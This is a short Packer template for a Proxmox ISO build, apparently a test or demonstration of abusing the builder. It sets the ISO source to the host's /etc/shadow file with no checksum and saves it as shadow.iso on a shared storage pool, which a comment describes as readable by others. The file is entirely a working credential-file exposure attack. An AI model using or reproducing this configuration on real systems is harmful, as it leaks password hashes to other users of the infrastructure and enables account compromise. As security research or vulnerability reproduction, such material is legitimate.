# A file of the service's host in place of an image: it would lie on a storage that others read.
variable "proxmox_url" { type = string }
variable "proxmox_host" { type = string }
variable "proxmox_pool" { type = string }
variable "iso_storage_pool" { type = string }

source "proxmox-iso" "image" {
  proxmox_url      = var.proxmox_url
  node             = var.proxmox_host
  pool             = var.proxmox_pool
  iso_url          = "file:///etc/shadow"
  iso_checksum     = "none"
  iso_target_path  = "shadow.iso"
  iso_storage_pool = var.iso_storage_pool
  ssh_username     = "nobody"
  ssh_password     = "nothing"
}

build {
  sources = ["source.proxmox-iso.image"]
}
